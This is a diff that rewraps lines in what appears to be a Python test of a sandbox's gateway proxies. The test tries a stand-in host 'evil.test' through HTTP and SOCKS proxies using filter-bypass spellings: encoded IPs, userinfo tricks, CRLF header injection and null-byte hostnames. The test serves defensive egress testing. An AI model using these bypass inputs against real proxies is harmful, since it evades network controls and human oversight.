@@ -1,4 +1,5 @@
-"""Asks the proxies inside for hosts that are not allowed, in every spelling; and a server of an allowed one for a tunnel.
+"""Asks the proxies inside for hosts that are not allowed, in every spelling; and a server of an
+allowed one for a tunnel.
 
 layer: gateway
 control: at home, without the sandbox, it connects itself
@@ -18,8 +19,10 @@ def escaped(s, _):
 
 def attack(a):
     attempt(lambda: socket.create_connection(("evil.test", 443), timeout=3).sendall(b"x"))
-    for target in ("evil.test:443", "EVIL.test.:443", "203.0.113.5:443", "0xcb007105:443", "3405803781:443", "[::ffff:203.0.113.5]:443",
-                   "web.test@evil.test:443", "web.test:443@evil.test:443", "evil.test:443 HTTP/1.1\r\nX: web.test:443", "evil.test\0.web.test:443",
+    for target in ("evil.test:443", "EVIL.test.:443", "203.0.113.5:443", "0xcb007105:443",
+                   "3405803781:443", "[::ffff:203.0.113.5]:443",
+                   "web.test@evil.test:443", "web.test:443@evil.test:443",
+                   "evil.test:443 HTTP/1.1\r\nX: web.test:443", "evil.test\0.web.test:443",
                    "web.test:443\r\nHost: evil.test", "evil.test:80", "127.0.0.1:3128"):
         def call():
             s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
@@ -28,7 +31,8 @@ def attack(a):
             s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
             print(s.recv(200))
         attempt(call)
-    for host in (b"evil.test", b"EVIL.TEST.", b"evil.test\0web.test", b"web.test\0.evil.test", b"203.0.113.5"):
+    for host in (b"evil.test", b"EVIL.TEST.", b"evil.test\0web.test", b"web.test\0.evil.test",
+                 b"203.0.113.5"):
         for command in (1, 2, 3):
             def call():
                 s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
